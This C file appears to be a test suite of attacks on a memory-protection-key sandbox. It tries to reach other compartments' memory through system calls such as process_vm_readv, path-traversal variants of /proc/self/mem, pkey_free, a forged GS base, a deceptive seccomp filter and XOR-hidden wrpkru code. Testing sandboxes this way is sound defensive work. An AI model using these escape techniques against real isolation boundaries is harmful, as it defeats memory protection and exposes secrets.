/*
 * The kernel as deputy: system calls that reach other cubicles' pages without asking a key. Each is
 * tried in two ways, as deputy-NAME through the monitor (cubicle_syscall), and as direct-NAME by a
 * jump to a SYSCALL instruction of the monitor's, with the registers that the call wants.
 *
 * After a jump nobody can rely on what comes back in RAX, so what counts is the effect.
 */
#include "inner.h"
#include "registers.h"
#include "victim.h"

typedef long system_call(long number, long a, long b, long c, long d, long e, long f);

struct vector {
	volatile void *start;
	size_t size;
};

static char buffer[PAGE] __attribute__((aligned(PAGE)));
static unsigned long syscall_instruction;	/* of the monitor's */
static unsigned long own_code_address;		/* itself, not the trampoline that stands for it elsewhere */
static system_call through_jump;

/* Numbers: arch/x86/entry/syscalls/syscall_64.tbl. */
enum {
	READ = 0, WRITE = 1, OPEN = 2, MMAP = 9, MPROTECT = 10, MUNMAP = 11, BRK = 12,
	RT_SIGACTION = 13, PREAD64 = 17, PWRITE64 = 18, READV = 19, WRITEV = 20, PIPE = 22, MREMAP = 25,
	MADVISE = 28, GETPID = 39, CLONE = 56, EXECVE = 59, UNAME = 63, PTRACE = 101,
	SIGALTSTACK = 131, PERSONALITY = 135, PRCTL = 157, ARCH_PRCTL = 158, FUTEX = 202,
	IO_SETUP = 206, SET_TID_ADDRESS = 218, CLOCK_GETTIME = 228, OPENAT = 257,
	SET_ROBUST_LIST = 273, VMSPLICE = 278, PROCESS_VM_READV = 310, PROCESS_VM_WRITEV = 311,
	SECCOMP = 317, GETRANDOM = 318, USERFAULTFD = 323, PKEY_MPROTECT = 329, PKEY_ALLOC = 330,
	PKEY_FREE = 331, RSEQ = 334, IO_URING_SETUP = 425,
};

static void checked(long result)
{
	if (result < 0)
		refused(result);
}

static long permitted(long number, long a, long b, long c)
{
	return cubicle_syscall(number, a, b, c, 0, 0);
}

/* Rights in a PKRU value: does it close the key to nothing? */
static int open_in(unsigned long pkru, int key)
{
	return !(pkru >> 2 * key & 3);
}

static unsigned long published_pkru(void)
{
	unsigned long pkru;
	__asm__("movq %%gs:8, %0" : "=r"(pkru));
	return pkru;
}

static void process_vm_readv(system_call *call)
{
	struct vector to = { buffer, SECRET_SIZE }, from = { (void *)victim_data(), SECRET_SIZE };
	long pid = permitted(GETPID, 0, 0, 0);
	long result = call(PROCESS_VM_READV, pid, (long)&to, 1, (long)&from, 1, 0);
	if (!search(buffer, SECRET_SIZE))
		refused(result);
}

static void process_vm_writev(system_call *call)
{
	struct vector to = { victim_heap(), SECRET_SIZE }, from = { buffer, SECRET_SIZE };
	long pid = permitted(GETPID, 0, 0, 0);
	checked(call(PROCESS_VM_WRITEV, pid, (long)&from, 1, (long)&to, 1, 0));
}

static const char *const memory_files[] = {
	"/proc/self/mem", "/proc/thread-self/mem", "/proc//self/mem", "/proc/./self/task/../mem",
	"/dev/fd/../mem", "//proc/self/mem", "/dev/../proc/self/mem", "../proc/self/mem",
	"../../../../proc/self/mem", "/proc/self/root/proc/self/mem", "/proc/self/cwd/proc/self/mem",
};

#define O_RDWR  2
#define AT_CWD -100

/* By every name that leads there. */
static void proc_self_mem(system_call *call)
{
	long result = -1, fd;
	for (size_t i = 0; i < sizeof memory_files / sizeof memory_files[0]; i++) {
		for (int at = 0; at < 2; at++) {
			fd = at ? call(OPENAT, AT_CWD, (long)memory_files[i], O_RDWR, 0, 0, 0)
				: call(OPEN, (long)memory_files[i], O_RDWR, 0, 0, 0, 0);
			if (fd < 0) {
				result = fd;
				continue;
			}
			result = call(PREAD64, fd, (long)buffer, SECRET_SIZE, (long)victim_data(), 0, 0);
			if (search(buffer, SECRET_SIZE)) {
				say(memory_files[i]);
				say("\n");
				return;
			}
		}
	}
	refused(result);
}

/* A directory's descriptor, and a name under it that does not look like much. */
static void proc_directory(system_call *call)
{
	static const char *const directories[] = { "/proc/self", "/dev/fd/..", "/proc", "/" };
	static const char *const names[] = { "mem", "mem", "self/mem", "proc/self/mem" };
	long result = -1;
	for (int i = 0; i < 4; i++) {
		long directory = call(OPEN, (long)directories[i], 0, 0, 0, 0, 0);
		if (directory < 0) {
			result = directory;
			continue;
		}
		long fd = call(OPENAT, directory, (long)names[i], O_RDWR, 0, 0, 0);
		if (fd < 0) {
			result = fd;
			continue;
		}
		result = call(PREAD64, fd, (long)buffer, SECRET_SIZE, (long)victim_data(), 0, 0);
		if (search(buffer, SECRET_SIZE))
			return;
	}
	refused(result);
}

#define TRACEME 0

static void ptrace(system_call *call)
{
	long result = call(PTRACE, TRACEME, 0, 0, 0, 0, 0);
	if (result == 0)
		escalated("is traced by its parent");
	else
		refused(result);
}

/* xor %eax,%eax; xor %ecx,%ecx; xor %edx,%edx; wrpkru, and a return: hidden from who reads this. */
static const unsigned char hidden_code[] = {
	0x31 ^ 90, 0xc0 ^ 90, 0x31 ^ 90, 0xc9 ^ 90, 0x31 ^ 90, 0xd2 ^ 90,
	0x0f ^ 90, 0x01 ^ 90, 0xef ^ 90, 0xc3 ^ 90,
};

__attribute__((aligned(PAGE), noinline, used)) static void own_code(void)
{
	__asm__ volatile(".skip 32, 0x90");
}

static void write_code(void)
{
	const char *secret = victim_data();
	unsigned long real = own_code_address;
	volatile unsigned char *code = (volatile unsigned char *)real;
	for (size_t i = 0; i < sizeof hidden_code; i++)
		code[i] = hidden_code[i] ^ 90;
	__asm__ volatile("callq *%0" : : "r"(real) : "rax", "rcx", "rdx", "memory", "cc");
	read_secret(secret);
}

/* In an image whose code is writable from the beginning. */
static void image_writable(system_call *call)
{
	(void)call;
	write_code();
}

/* Makes its own code writable, and writes there what the verifier would not have let pass. */
static void mprotect(system_call *call)
{
	long result = call(MPROTECT, (long)own_code_address & -(long)PAGE, PAGE, 7, 0, 0, 0);
	if (result < 0)
		refused(result);
	else
		write_code();
}

static void pkey_mprotect(system_call *call)
{
	const char *secret = victim_data();
	unsigned long pkru = published_pkru();
	long result = -1;
	for (int key = 1; key < 16; key++)
		if (open_in(pkru, key))
			result = call(PKEY_MPROTECT, (long)secret, PAGE, 3, key, 0, 0);
	if (result < 0)
		refused(result);
	else
		read_secret(secret);
}

#define PRIVATE_ANONYMOUS 0x22
#define FIXED             0x10

static void munmap(system_call *call)
{
	char *heap = victim_heap();
	checked(call(MUNMAP, (long)heap, PAGE, 0, 0, 0, 0));
	checked(call(MMAP, (long)heap, PAGE, 3, PRIVATE_ANONYMOUS, -1, 0));
}

static void mmap_fixed(system_call *call)
{
	checked(call(MMAP, (long)victim_heap(), PAGE, 3, PRIVATE_ANONYMOUS | FIXED, -1, 0));
}

/* Fresh memory has key 0, which is closed to all cubicles: it needs another one. */
static void mmap(system_call *call)
{
	unsigned long pkru = published_pkru();
	long page = call(MMAP, 0, PAGE, 3, PRIVATE_ANONYMOUS, -1, 0);
	if (page < 0 && page > -PAGE) {
		refused(page);
		return;
	}
	for (int key = 1; key < 16; key++)
		if (open_in(pkru, key))
			checked(call(PKEY_MPROTECT, page, PAGE, 3, key, 0, 0));
	*(volatile char *)page = 1;
	escalated("has memory that nobody accounts for");
}

static void mremap(system_call *call)
{
	volatile char *mine = cubicle_pages_alloc(1);
	for (int i = 0; i < PAGE; i++)
		mine[i] = '!';
	checked(call(MREMAP, (long)mine, PAGE, PAGE, 3, (long)victim_heap(), 0));
}

#define DONTNEED 4

static void madvise(system_call *call)
{
	checked(call(MADVISE, (long)victim_heap(), PAGE, DONTNEED, 0, 0, 0));
}

/* A key that is given back while pages carry it, and asked for again: pkey_alloc opens it. */
static void pkey_free(system_call *call)
{
	const char *secret = victim_data();
	unsigned long pkru = published_pkru();
	long result = -1;
	for (int key = 1; key < 16 && result < 0; key++)
		if (!open_in(pkru, key))
			result = call(PKEY_FREE, key, 0, 0, 0, 0, 0);
	if (result < 0) {
		refused(result);
		return;
	}
	escalated("gave keys back that pages carry");
	for (int i = 1; i < 16; i++)
		call(PKEY_ALLOC, 0, 0, 0, 0, 0, 0);
	read_secret(secret);
}

static void brk(system_call *call)
{
	long now = call(BRK, 0, 0, 0, 0, 0, 0);
	if (now < 0) {
		refused(now);
		return;
	}
	long then = call(BRK, now + PAGE, 0, 0, 0, 0, 0);
	if (then == now + PAGE)
		escalated("has memory that nobody accounts for");
	else
		refused(then);
}

static void write_secret(system_call *call)
{
	checked(call(WRITE, 1, (long)victim_data(), SECRET_SIZE, 0, 0, 0));
}

static void writev_secret(system_call *call)
{
	struct vector parts[2] = { { (void *)victim_data(), SECRET_SIZE }, { "\n", 1 } };
	checked(call(WRITEV, 1, (long)parts, 2, 0, 0, 0));
}

/* The array of parts itself lies in another's memory, in the monitor's at worst. */
static void writev_array(system_call *call)
{
	checked(call(WRITEV, 1, (long)victim_data(), 1, 0, 0, 0));
}

static void read_over(system_call *call)
{
	checked(call(READ, 0, (long)victim_heap(), SECRET_SIZE, 0, 0, 0));
}

static void readv_over(system_call *call)
{
	struct vector parts[2] = { { victim_heap(), SECRET_SIZE }, { buffer, 1 } };
	checked(call(READV, 0, (long)parts, 2, 0, 0, 0));
}

static void clock_over(system_call *call)
{
	checked(call(CLOCK_GETTIME, 0, (long)victim_heap(), 0, 0, 0, 0));
}

static void random_over(system_call *call)
{
	checked(call(GETRANDOM, (long)victim_heap(), SECRET_SIZE, 0, 0, 0, 0));
}

static void uname_over(system_call *call)
{
	checked(call(UNAME, (long)victim_heap(), 0, 0, 0, 0, 0));
}

#define WAKE_OP 5

/* FUTEX_WAKE_OP writes: *address2 = 0x212. */
static void futex(system_call *call)
{
	checked(call(FUTEX, (long)buffer, WAKE_OP, 1, 1, (long)victim_heap(), 0x212 << 12));
}

static void vmsplice(system_call *call)
{
	int ends[2] = { -1, -1 };
	struct vector part = { (void *)victim_data(), SECRET_SIZE };
	checked(call(PIPE, (long)ends, 0, 0, 0, 0, 0));
	long result = call(VMSPLICE, ends[1], (long)&part, 1, 0, 0, 0);
	if (result > 0)
		result = call(READ, ends[0], (long)buffer, SECRET_SIZE, 0, 0, 0);
	if (!search(buffer, SECRET_SIZE))
		refused(result);
}

static void accepted(long result, const char *how)
{
	if (result >= 0)
		escalated(how);
	else
		refused(result);
}

static void io_uring(system_call *call)
{
	static char parameters[PAGE];
	accepted(call(IO_URING_SETUP, 4, (long)parameters, 0, 0, 0, 0),
		 "has a ring, and kernel threads that know no PKRU");
}

static void aio(system_call *call)
{
	static unsigned long context;
	accepted(call(IO_SETUP, 1, (long)&context, 0, 0, 0, 0), "has asynchronous I/O");
}

static void robust_list(system_call *call)
{
	accepted(call(SET_ROBUST_LIST, (long)victim_heap(), 24, 0, 0, 0, 0),
		 "the kernel writes to another's page when the thread ends");
}

static void tid_address(system_call *call)
{
	accepted(call(SET_TID_ADDRESS, (long)victim_heap(), 0, 0, 0, 0, 0),
		 "the kernel clears a word of another's when the thread ends");
}

static void rseq(system_call *call)
{
	accepted(call(RSEQ, (long)buffer, 32, 0, 0x53053053, 0, 0),
		 "the kernel diverts the thread where this cubicle says");
}

#define SET_MODE_FILTER 1

static void seccomp(system_call *call)
{
	/* SECCOMP_RET_ERRNO | 0: every system call from now on "succeeds". Answers ENOSYS to
	 * nothing that anyone needs here but pkey_mprotect. */
	static const struct { unsigned short code; unsigned char yes, no; unsigned value; } filter[] = {
		{ 0x20, 0, 0, 0 },			/* the number */
		{ 0x15, 0, 1, PKEY_MPROTECT },
		{ 0x06, 0, 0, 0x00050000 },		/* errno 0 */
		{ 0x06, 0, 0, 0x7fff0000 },		/* allow */
	};
	const struct { unsigned short size; const void *filter; } program = { 4, filter };
	accepted(call(SECCOMP, SET_MODE_FILTER, 0, (long)&program, 0, 0, 0),
		 "the monitor's system calls pretend to succeed");
}

#define SET_NAME 15

static void prctl(system_call *call)
{
	accepted(call(PRCTL, SET_NAME, (long)"attacker", 0, 0, 0, 0), "changed the process");
}

#define READ_IMPLIES_EXEC 0x400000

static void personality(system_call *call)
{
	accepted(call(PERSONALITY, READ_IMPLIES_EXEC, 0, 0, 0, 0, 0),
		 "new readable pages are executable");
}

#define SET_GS 0x1001

/*
 * The gate finds everything through GS. What the monitor's stack pointer is after a system call, for
 * instance: it is taken from the block while all keys are open.
 */
static void arch_prctl(system_call *call)
{
	static unsigned long forged[3 * PAGE / 8] __attribute__((aligned(PAGE)));
	static unsigned long stack[16];
	const char *secret = victim_data();
	char copy[SECRET_SIZE];
	unsigned long real, seen;
	__asm__("movq %%gs:0, %0" : "=r"(real));
	__asm__("movq %%gs:8, %0" : "=r"(forged[1]));
	__asm__("movq %%gs:16, %0" : "=r"(forged[2]));
	forged[0] = 0x600d;
	forged[0x1018 / 8] = (unsigned long)stack;	/* syscall_rsp of struct thread */
	for (int i = 0; i < 16; i++)
		stack[i] = (unsigned long)landing;
	long result = call(ARCH_PRCTL, SET_GS, (long)forged, 0, 0, 0, 0);
	__asm__ volatile("movq %%gs:0, %0" : "=r"(seen));
	if (seen != forged[0]) {
		refused(result);
		return;
	}
	if (call != through_jump)
		bytes_copy(copy, secret, SECRET_SIZE);
	through_jump(ARCH_PRCTL, SET_GS, (long)real, 0, 0, 0, 0);
	escalated("moved GS to a page of its own");
	if (call != through_jump)
		stolen(copy);
}

static volatile int child_ran;

__attribute__((naked, used)) static void child(void)
{
	__asm__ volatile("movl $1, %0\n1:\tpause\n\tjmp 1b" : "=m"(child_ran));
}

/* CLONE_VM, _FS, _FILES, _SIGHAND, _THREAD, _SYSVSEM: a variable, or its bytes 0F 05 were in code. */
static volatile long thread_flags = 0x50f00;

static void clone(system_call *call)
{
	static void *stack[512];
	for (int i = 0; i < 512; i++)
		__asm__("leaq %c1(%%rip), %0" : "=r"(stack[i]) : "i"(child));
	long result = call(CLONE, thread_flags, (long)(stack + 256), 0, 0, 0, 0);
	for (volatile long i = 0; i < 20000000 && !child_ran; i++)
		;
	if (child_ran)
		escalated("has a thread that the monitor does not know");
	else
		refused(result);
}

static void execve(system_call *call)
{
	static const char *const arguments[] = { "attacks", "escaped", 0 };
	static const char *const environment[] = { "CUBICLE=mpk=off", 0 };
	refused(call(EXECVE, (long)"/proc/self/exe", (long)arguments, (long)environment, 0, 0, 0));
}

static void escaped(system_call *call)
{
	(void)call;
	escalated("became a program of its choice");
}

static void userfaultfd(system_call *call)
{
	accepted(call(USERFAULTFD, 0, 0, 0, 0, 0, 0), "fills other cubicles' pages");
}

static void alternate_stack(system_call *call)
{
	struct { void *start; int flags; size_t size; } stack = { victim_heap(), 0, PAGE };
	accepted(call(SIGALTSTACK, (long)&stack, 0, 0, 0, 0, 0),
		 "signal frames go to another's page");
}

static void handler(system_call *call)
{
	const struct { const void *handler; unsigned long flags; const void *restorer;
		       unsigned long mask; } action = { landing, 0x04000000, landing, 0 };
	accepted(call(RT_SIGACTION, 12, (long)&action, 0, 8, 0, 0),
		 "has a handler, which starts with key 0 open");
}

static const struct { const char *name; void (*run)(system_call *); } table[] = {
	{ "process-vm-readv", process_vm_readv },
	{ "process-vm-writev", process_vm_writev },
	{ "proc-self-mem", proc_self_mem },
	{ "proc-directory", proc_directory },
	{ "ptrace", ptrace },
	{ "mprotect", mprotect },
	{ "pkey-mprotect", pkey_mprotect },
	{ "munmap", munmap },
	{ "mmap-fixed", mmap_fixed },
	{ "mmap", mmap },
	{ "mremap", mremap },
	{ "madvise", madvise },
	{ "pkey-free", pkey_free },
	{ "brk", brk },
	{ "write", write_secret },
	{ "writev", writev_secret },
	{ "writev-array", writev_array },
	{ "read", read_over },
	{ "readv", readv_over },
	{ "clock-gettime", clock_over },
	{ "getrandom", random_over },
	{ "uname", uname_over },
	{ "futex", futex },
	{ "vmsplice", vmsplice },
	{ "io-uring", io_uring },
	{ "aio", aio },
	{ "robust-list", robust_list },
	{ "tid-address", tid_address },
	{ "rseq", rseq },
	{ "seccomp", seccomp },
	{ "prctl", prctl },
	{ "personality", personality },
	{ "arch-prctl", arch_prctl },
	{ "clone", clone },
	{ "execve", execve },
	{ "userfaultfd", userfaultfd },
	{ "sigaltstack", alternate_stack },
	{ "sigaction", handler },
	{ "escaped", escaped },
	{ "image-writable", image_writable },
};

/* A stack from which every return leads back. */
static unsigned long way_back[512] __attribute__((aligned(16)));

/* By a jump, too, so that there is a way back whatever becomes of the call. */
static long through_monitor(long number, long a, long b, long c, long d, long e, long f)
{
	(void)f;
	for (int i = 0; i < 512; i++)
		way_back[i] = (unsigned long)landing;
	struct registers all = {
		.rdi = (unsigned long)number, .rsi = (unsigned long)a, .rdx = (unsigned long)b,
		.rcx = (unsigned long)c, .r8 = (unsigned long)d, .r9 = (unsigned long)e,
		.rsp = (unsigned long)(way_back + 257),
	};
	return (long)jump((unsigned long)cubicle_syscall, &all);
}

static long through_jump(long number, long a, long b, long c, long d, long e, long f)
{
	unsigned long back = (unsigned long)landing;
	for (int i = 0; i < 512; i++)
		way_back[i] = back;
	struct registers all = {
		.rax = (unsigned long)number, .rdi = (unsigned long)a, .rsi = (unsigned long)b,
		.rdx = (unsigned long)c, .r10 = (unsigned long)d, .r8 = (unsigned long)e,
		.r9 = (unsigned long)f, .rsp = (unsigned long)(way_back + 256),
		.rbp = (unsigned long)(way_back + 256),
		.rbx = back, .r12 = back, .r13 = back, .r14 = back, .r15 = back,
	};
	return (long)jump(syscall_instruction, &all);
}

static const char *without(const char *prefix, const char *name)
{
	while (*prefix)
		if (*prefix++ != *name++)
			return NULL;
	return name;
}

int run_system_call(const char *name, const unsigned long *numbers)
{
	const char *rest;
	system_call *call = through_monitor;
	syscall_instruction = numbers[0];
	own_code_address = numbers[1];
	for (int i = 0; i < PAGE; i++)
		buffer[i] = '!';
	if ((rest = without("direct-", name))) {
		call = through_jump;
	} else if (!(rest = without("deputy-", name))) {
		rest = name;
	}
	for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
		if (text_equals(table[i].name, rest)) {
			table[i].run(call);
			return 1;
		}
	}
	return 0;
}
